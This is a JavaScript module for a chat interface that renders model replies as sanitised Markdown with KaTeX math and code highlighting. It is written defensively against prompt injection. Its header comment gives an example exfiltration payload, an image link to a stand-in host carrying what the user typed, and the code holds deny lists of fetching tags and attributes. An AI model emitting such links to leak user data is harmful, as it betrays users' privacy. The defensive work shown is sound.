// Model text to safe DOM: Markdown (marked), sanitised (DOMPurify) so that nothing in a reply can run
// a script or make the browser fetch or send anything by itself, then math (KaTeX) and code colours.
//
// A reply is hostile input: a prompt injection in a pasted document can make a model write
// ![x](http://elsewhere/?d=what-you-typed), which a browser would fetch without a click. So images
// stay only when inline (data:), links need a click and open apart, and nothing else that fetches
// (media, srcset, styles with url(), forms, frames, SVG) survives. The server's
// Content-Security-Policy backs this up.

const INLINE_IMAGE = /^data:image\/(?:png|jpeg|gif|webp);/i;
const PURIFY = {
  USE_PROFILES: { html: true }, // no SVG or MathML from the model: KaTeX adds its own after sanitising
  FORBID_TAGS: ["style", "link", "meta", "base", "form", "button", "select", "option", "textarea", "video",
    "audio", "source", "track", "picture", "iframe", "frame", "object", "embed", "dialog", "template"],
  FORBID_ATTR: ["style", "srcset", "sizes", "poster", "background", "ping", "action", "formaction", "usemap",
    "longdesc", "lowsrc", "dynsrc", "form", "name", "id", "autofocus"],
  ALLOW_DATA_ATTR: false,
  RETURN_DOM_FRAGMENT: true,
};

DOMPurify.addHook("afterSanitizeAttributes", (node) => {
  if (node.tagName === "IMG" && !INLINE_IMAGE.test(node.getAttribute("src") || "")) {
    // a remote image becomes a link the user may follow, never a fetch
    const link = node.ownerDocument.createElement("a");
    link.href = node.getAttribute("src") || "";
    link.textContent = `[image: ${node.getAttribute("alt") || "untitled"}]`;
    node.replaceWith(link);
  } else if (node.tagName === "A") {
    node.setAttribute("target", "_blank");
    node.setAttribute("rel", "noopener noreferrer");
  } else if (node.tagName === "INPUT") {
    // GFM task lists' checkboxes are the only inputs kept, inert
    for (const name of node.getAttributeNames()) if (name !== "checked") node.removeAttribute(name);
    node.setAttribute("type", "checkbox");
    node.setAttribute("disabled", "");
  }
});

// $...$, $$...$$, \(...\), \[...\]; code spans and blocks are left alone
const MATH = /\$\$([\s\S]+?)\$\$|\\\[([\s\S]+?)\\\]|\\\(([\s\S]+?)\\\)|\$([^\s$](?:[^$\n]*?[^\s$])?)\$/g;
const CODE = /```[\s\S]*?(?:```|$)|`[^`\n]+`/g;
const KATEX = { throwOnError: false, trust: false, maxExpand: 1000, maxSize: 50 };

function randomTag() {
  return [...crypto.getRandomValues(new Uint8Array(8))].map((b) => b.toString(16).padStart(2, "0")).join("");
}

// Renders `text` into a DocumentFragment. Math is cut out before Markdown and put back after
// sanitising, as KaTeX's DOM nodes in text positions only, behind placeholders carrying a random tag
// drawn for this call, which text from the model cannot know and so cannot forge.
export function renderMarkdown(text) {
  const code = [];
  const maths = [];
  const tag = randomTag();
  const codeBack = (s) => s.replace(new RegExp(`\uE000C${tag}(\\d+)\uE001`, "g"), (m, i) => code[i]);
  let src = text.replace(CODE, (m) => `\uE000C${tag}${code.push(m) - 1}\uE001`);
  src = src.replace(MATH, (m, a, b, c, d) => {
    const tex = codeBack(a ?? b ?? c ?? d);
    maths.push({ source: codeBack(m), tex, display: a !== undefined || b !== undefined });
    return `\uE000M${tag}${maths.length - 1}\uE001`;
  });
  src = codeBack(src);
  const fragment = DOMPurify.sanitize(marked.parse(src), PURIFY);
  placeMath(fragment, maths, new RegExp(`\uE000M${tag}(\\d+)\uE001`, "g"));
  return fragment;
}

function placeMath(root, maths, placeholder) {
  const walker = document.createTreeWalker(root, NodeFilter.SHOW_TEXT | NodeFilter.SHOW_ELEMENT);
  const texts = [];
  for (let node = walker.nextNode(); node; node = walker.nextNode()) {
    if (node.nodeType === Node.TEXT_NODE) texts.push(node);
    else restoreAttributes(node, maths, placeholder);
  }
  for (const node of texts) {
    const parts = node.data.split(placeholder); // the captured numbers land at odd indices
    if (parts.length === 1) continue;
    node.replaceWith(...parts.map((part, i) => (i % 2 ? mathNode(maths[part]) : part)));
  }
}

// A formula that Markdown put in an attribute (a link's title...) stays there as its source text;
// in a URL it goes, so that it can never turn into a scheme.
function restoreAttributes(element, maths, placeholder) {
  for (const name of element.getAttributeNames()) {
    const value = element.getAttribute(name);
    if (!value.includes("\uE000")) continue;
    if (name === "href" || name === "src") element.removeAttribute(name);
    else element.setAttribute(name, value.replace(placeholder, (m, i) => maths[i].source));
  }
}

function mathNode({ tex, display }) {
  const span = document.createElement("span");
  katex.render(tex, span, { ...KATEX, displayMode: display });
  return span;
}

// Code blocks in colour, once an answer is complete (highlighting each streamed piece would flicker)
export function highlightCode(root) {
  root.querySelectorAll("pre code").forEach((block) => hljs.highlightElement(block));
}
